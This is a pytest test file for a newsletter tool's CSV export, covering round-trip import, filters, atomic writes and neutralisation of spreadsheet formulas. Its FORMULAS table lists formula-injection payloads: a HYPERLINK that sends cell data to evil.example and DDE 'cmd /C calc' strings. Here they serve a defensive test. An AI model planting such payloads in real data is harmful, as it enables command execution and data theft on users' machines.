"""Export: everything held, filtered, written atomically, and re-importable with no change."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from newsletter.audience.exporting import EXPORT_COLUMNS, export_file, write_export
from newsletter.audience.importing import import_file
from newsletter.store import Consent, Store, open_store
from newsletter.store.schema import metadata

CSV_DIR = Path(__file__).resolve().parents[1] / "fixtures" / "csv"
CLI = Consent(source="cli")


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with open_store(f"sqlite:///{tmp_path / 'newsletter.db'}") as opened:
        yield opened


def _everything(store: Store) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table of ours, for before/after comparisons."""
    with store.read() as conn:
        return {
            table.name: [tuple(row) for row in conn.execute(select(table))]
            for table in metadata.sorted_tables
        }


def _varied(store: Store) -> None:
    """Subscribers in every state the export has to carry."""
    import_file(store, CSV_DIR / "generic.csv", list_name=None, default_list="main")
    import_file(store, CSV_DIR / "listmonk.csv", list_name="weekly", default_list="main")
    store.add("marta.ruiz@example.com", list_name="weekly", consent=CLI)
    store.unsubscribe("marta.ruiz@example.com", list_name="main", consent=CLI)
    store.unsubscribe("oluwaseun@example.ng", consent=CLI)
    store.mark_bounced("tomasz.nowak@example.pl")
    store.add_pending("pending.person@example.com", list_name="weekly", consent=CLI, name="P, Q")
    store.add(
        "quoting@example.com",
        list_name="main",
        consent=CLI,
        name='Dr. "Quote", Jr.',
        attributes={"bio": "line one\nline two; with separators", "n": 7, "nested": {"a": [1]}},
    )
    store.erase("erased.person@example.com", consent=CLI)


def test_export_then_import_changes_nothing(store: Store, tmp_path: Path) -> None:
    _varied(store)
    path = tmp_path / "out" / "export.csv"
    written = export_file(store, path)
    before = _everything(store)
    report = import_file(store, path, list_name=None, default_list="main")
    assert report.invalid == []
    assert report.counts.added == report.counts.updated == report.counts.resubscribed == 0
    assert report.counts.unchanged + report.counts.suppressed == written == store.count()
    assert _everything(store) == before


def test_export_columns_carry_lists_status_and_attributes(store: Store) -> None:
    _varied(store)
    buffer = io.StringIO()
    write_export(store, buffer)
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(buffer.getvalue()))}
    assert tuple(next(csv.reader(io.StringIO(buffer.getvalue())))) == EXPORT_COLUMNS
    marta = rows["marta.ruiz@example.com"]
    assert (marta["status"], marta["lists"], marta["unsubscribed_lists"]) == (
        "active",
        "weekly",
        "main",
    )
    assert rows["pending.person@example.com"]["pending_lists"] == "weekly"
    assert rows["tomasz.nowak@example.pl"]["status"] == "bounced"
    assert json.loads(rows["quoting@example.com"]["attributes"])["nested"] == {"a": [1]}
    assert rows["quoting@example.com"]["name"] == 'Dr. "Quote", Jr.'
    assert "erased.person@example.com" not in rows
    assert len(rows) == store.count()


def test_export_filters(store: Store) -> None:
    _varied(store)

    def emails(**kwargs: Any) -> set[str]:
        buffer = io.StringIO()
        write_export(store, buffer, **kwargs)
        return {row["email"] for row in csv.DictReader(io.StringIO(buffer.getvalue()))}

    assert emails(list_name="weekly", status="active") == {
        "amara.okafor@example.com",
        "marta.ruiz@example.com",
    }
    assert emails(status="bounced") == {"tomasz.nowak@example.pl"}
    assert emails(list_name="weekly", status="pending") == {"pending.person@example.com"}


def test_export_file_is_atomic(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _varied(store)
    path = tmp_path / "export.csv"
    path.write_text("previous export\n", encoding="utf-8")

    def broken(*_args: Any, **_kwargs: Any) -> Iterator[Any]:
        yield from ()
        raise RuntimeError("disk trouble")

    monkeypatch.setattr(store, "iter_export_rows", broken)
    with pytest.raises(RuntimeError):
        export_file(store, path)
    assert path.read_text(encoding="utf-8") == "previous export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_export_into_a_fresh_database_keeps_active_people(store: Store, tmp_path: Path) -> None:
    """Moving to another database: active members arrive on their lists, leavers stay blocked."""
    _varied(store)
    path = tmp_path / "export.csv"
    export_file(store, path)
    with open_store(f"sqlite:///{tmp_path / 'other.db'}") as other:
        import_file(other, path, list_name=None, default_list="main")
        for list_name in ("main", "weekly"):
            assert other.count(list_name=list_name, status="active") == store.count(
                list_name=list_name, status="active"
            )
        assert other.is_suppressed("tomasz.nowak@example.pl")
        assert other.is_suppressed("oluwaseun@example.ng")
        assert other.count(list_name="weekly", status="pending") == 1


FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "equals",
    "+cmd|' /C calc'!A0": "plus",
    "-2+3+cmd|' /C calc'!A0": "minus",
    "@SUM(1+1)*cmd|' /C calc'!A0": "at",
    "\t=1+1": "tab",
    "\r=1+1": "carriage return",
}


def test_cells_a_spreadsheet_would_run_are_exported_as_text_and_import_back(
    store: Store, tmp_path: Path
) -> None:
    for number, (formula, label) in enumerate(FORMULAS.items()):
        store.add(
            f"p{number}@example.com",
            list_name="main",
            consent=CLI,
            name=f"Name {label}",
            attributes={"note": "x"},
        )
        with store.write() as conn:  # names are whitespace-folded on add: write it as it is
            from newsletter.store.schema import subscribers

            conn.execute(
                subscribers.update()
                .where(subscribers.c.email == f"p{number}@example.com")
                .values(name=formula)
            )
    store.add("-dash@example.com", list_name="-minus-list", consent=CLI, name="'quoted")
    out = io.StringIO()
    write_export(store, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
    names = {row["name"] for row in rows}
    assert {"'" + formula for formula in FORMULAS} <= names
    dash = next(row for row in rows if row["email"] == "'-dash@example.com")
    assert (dash["lists"], dash["name"]) == ("'-minus-list", "'quoted")
    # our own export imported into a fresh database gives back the values as they were
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    with open_store(f"sqlite:///{tmp_path / 'fresh.db'}") as fresh:
        report = import_file(fresh, path, list_name=None, default_list="main")
        assert report.invalid == []
        again = {sub.email: sub for sub in fresh.iter_subscribers()}
    assert {again[f"p{n}@example.com"].name for n in range(len(FORMULAS))} == {
        " ".join(formula.split()) for formula in FORMULAS
    }
    assert again["-dash@example.com"].name == "'quoted"
    assert [m.list_name for m in again["-dash@example.com"].memberships] == ["-minus-list"]
